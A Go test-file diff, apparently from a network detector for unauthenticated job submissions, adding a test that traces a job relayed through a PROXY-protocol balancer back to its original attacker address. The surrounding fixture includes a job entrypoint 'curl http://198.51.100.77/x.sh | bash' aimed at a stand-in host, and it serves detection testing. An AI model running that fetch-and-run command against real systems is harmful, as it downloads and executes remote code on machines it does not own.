@@ -395,6 +395,32 @@ func TestInnerHopOfAProxyIsQuiet(t *testing.T) {
 }
 
 // The head hands a job to an agent with all keys, the absent as null.
+// TestBalancerThatNamesItsClient: a job that a balancer hands on for somebody is one job, and that somebody's, whichever of
+// the two connections is complete first; what another sends is another.
+func TestBalancerThatNamesItsClient(t *testing.T) {
+	named := func(h hop) hop {
+		h.change = func(t *http.Transaction) {
+			t.Flow = t.Flow.For(capture.Via{Client: netip.MustParseAddrPort(attacker + ":50000"), Packet: 7, Believed: true})
+		}
+		return h
+	}
+	outer, inner := ran(attacker, proxy, curl, job("id")), named(ran(proxy, head, curl, job("id")))
+	for _, hops := range [][]hop{{inner}, {outer, inner}, {inner, outer}} {
+		found := watch(t, hops...)
+		f := find(found, "jobsubmit/external")
+		if len(found) != 1 || f == nil || f.Src.String() != attacker {
+			t.Errorf("%d hops: %s", len(hops), rulesOf(found))
+			continue
+		}
+		if e := f.Evidence[len(f.Evidence)-1]; hops[0].dst == head && (e.Field != "proxy" || e.Packet != 7 || e.Value != proxy+":40000 speaks for "+attacker+":50000 (PROXY protocol)") {
+			t.Errorf("%+v", e)
+		}
+	}
+	if found := watch(t, inner, ran("203.0.113.90", "10.20.0.31", curl, job("id"))); len(found) != 2 {
+		t.Errorf("two balancers: %s", rulesOf(found))
+	}
+}
+
 func TestHeadToAgentIsNoSecondJob(t *testing.T) {
 	cmd := "curl http://198.51.100.77/x.sh | bash"
 	inner := ran(head, "10.20.0.11:52365", "User-Agent: Python/3.11 aiohttp/3.9.5\n", `{"entrypoint": "`+cmd+`", "submission_id": "raysubmit_x", "job_id": null, "runtime_env": {}, "metadata": {}, "entrypoint_num_cpus": null, "entrypoint_num_gpus": null, "entrypoint_memory": null, "entrypoint_resources": null}`)
